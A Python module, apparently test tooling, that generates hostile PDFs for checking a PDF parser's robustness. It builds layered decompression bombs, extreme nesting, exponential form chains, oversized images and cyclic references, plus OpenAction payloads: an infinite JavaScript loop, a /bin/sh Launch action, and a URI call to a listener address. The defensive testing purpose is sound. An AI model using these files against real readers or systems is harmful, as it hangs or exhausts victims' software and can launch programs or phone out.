"""PDFs that are made to hang, fill the memory of, or mislead whoever opens them."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence

Make = Callable[[], bytes]
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s >>"
_FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF with a sound table of its objects, numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, item in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table)
    out += b"trailer << /Root 1 0 R /Size %d %b >>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"", *, packed: bool = True) -> bytes:
    """Return a stream, deflated or as it is."""
    body = zlib.compress(content, 9) if packed else content
    kind = b"/Filter /FlateDecode" if packed else b""
    return b"<< /Length %d %b %b >>\nstream\n%b\nendstream" % (len(body), kind, extra, body)


def page_of(content: bytes, resources: bytes = _FONT, *more: bytes) -> bytes:
    """Return a PDF of one page that draws `content`."""
    return pdf([_CATALOG, _TREE, _PAGE % resources, stream(content), *more])


def shown(text: bytes, times: int = 1) -> bytes:
    """Return drawing that shows a text again and again."""
    return b"BT /F1 9 Tf 20 800 Td 0 -1 TD " + b"(%b) Tj T* " % text * times + b"ET"


def _bomb(layers: int) -> bytes:
    body = bytes(200 * 1024**2)
    for _ in range(layers):
        body = zlib.compress(body, 9)
    filters = b" ".join([b"/FlateDecode"] * layers)
    packed = b"<< /Length %d /Filter [%b] >>\nstream\n%b\nendstream" % (len(body), filters, body)
    return pdf([_CATALOG, _TREE, _PAGE % _FONT, packed])


def _many_pages(number: int) -> bytes:
    kids = b"3 0 R " * number
    tree = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, number)
    return pdf([_CATALOG, tree, _PAGE % _FONT, stream(shown(b"side"))])


def _chained_forms(depth: int, each: int) -> bytes:
    """Forms that draw the next one several times over: `each` to the power of `depth` texts."""
    forms = []
    for level in range(depth):
        inner = b"/X Do " * each if level + 1 < depth else shown(b"x", 5)
        box = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] "
        box += b"/Resources << /XObject << /X %d 0 R >>"
        font = b" /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
        forms.append(stream(inner, box % (level + 6) + font))
    resources = b"<< /XObject << /X 5 0 R >> >>"
    return page_of(b"/X Do", resources, *forms, stream(b""))


def _image(width: int, height: int) -> bytes:
    extra = b"/Type /XObject /Subtype /Image /Width %d /Height %d " % (width, height)
    picture = stream(bytes(10**6), extra + b"/BitsPerComponent 8 /ColorSpace /DeviceRGB")
    resources = _FONT.replace(b"<< /Font", b"<< /XObject << /I 5 0 R >> /Font", 1)
    return page_of(b"q 500 0 0 500 0 0 cm /I Do Q " + shown(b"tekst"), resources, picture)


def _with_action(action: bytes) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %b >>" % action
    return pdf([catalog, _TREE, _PAGE % _FONT, stream(shown(b"tekst"))])


def _object_stream_loop() -> bytes:
    kind = b"/Type /ObjStm /N 2 /First 8 /Extends 5 0 R"
    return page_of(shown(b"x"), _FONT, stream(b"5 0 6 2 << >>", kind))


def hostile_pdfs(address: str) -> Mapping[str, Make]:
    """Return what makes each PDF.

    Args:
        address: of somebody who listens whether anything comes over the network.
    """
    return dict((*_deep(), *_large(), *_in_circles(), *_acting(address.encode())))


def _deep() -> Iterator[tuple[str, Make]]:
    """Yield what is nested, or packed, deeper than anything needs."""
    deep = b"[" * 1_000_000
    yield "dybe lister", lambda: pdf([_CATALOG, _TREE, deep, stream(b"")])
    yield "dybe ordbøger", lambda: pdf([b"<< /A " * 500_000, _TREE])
    yield "dybt indhold", lambda: page_of(deep)
    yield "mange q", lambda: page_of(b"q " * 3_000_000 + shown(b"x"))
    yield "bombe", lambda: _bomb(1)
    yield "bombe i to lag", lambda: _bomb(2)
    yield "bombe i tre lag", lambda: _bomb(3)


def _large() -> Iterator[tuple[str, Make]]:
    """Yield what is larger, or more, than any report."""
    yield "side så stor som en by", lambda: page_of(shown(b"x")).replace(b"595 842", b"9e9 9e9")
    yield "sideformat uden tal", lambda: page_of(shown(b"x")).replace(b"595 842", b"/A (B)  ")
    yield "billede 60000 x 60000", lambda: _image(60_000, 60_000)
    yield "billede 2^31", lambda: _image(2**31 - 1, 2**31 - 1)
    yield "formularer 9^9", lambda: _chained_forms(9, 9)
    yield "100000 sider", lambda: _many_pages(100_000)
    yield "2000 sider", lambda: _many_pages(2_000)
    yield "6 mio. tegn", lambda: page_of(shown(b"abcdefghij" * 10, 60_000))
    yield "300000 ord på et punkt", lambda: page_of(b"BT /F1 9 Tf " + b"(a ) Tj " * 300_000 + b"ET")


def _in_circles() -> Iterator[tuple[str, Make]]:
    """Yield what refers to itself, or to nothing."""
    kids = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    yield "sider i ring", lambda: pdf([_CATALOG, kids, _PAGE % _FONT, stream(shown(b"x"))])
    yield "formular tegner sig selv", lambda: _chained_forms(1, 3).replace(b"6 0 R", b"5 0 R")
    yield "længde i ring", lambda: page_of(shown(b"x")).replace(b"/Length ", b"/Length 4 0 R %", 1)
    yield "objekter i ring", _object_stream_loop
    yield (
        "xref peger på sig selv",
        lambda: pdf([_CATALOG, _TREE], b"/Prev 9").replace(b"/Prev 9", b"/Prev 0"),
    )
    yield "kun et hoved", lambda: b"%PDF-1.7\n" + b"%" * 1_000_000


def _acting(address: bytes) -> Iterator[tuple[str, Make]]:
    """Yield what would do something when it is opened."""
    yield "javascript", lambda: _with_action(b"<< /S /JavaScript /JS (while(1){}) >>")
    yield "starter et program", lambda: _with_action(b"<< /S /Launch /F (/bin/sh) >>")
    yield "henter fra nettet", lambda: _with_action(b"<< /S /URI /URI (%b) >>" % address)
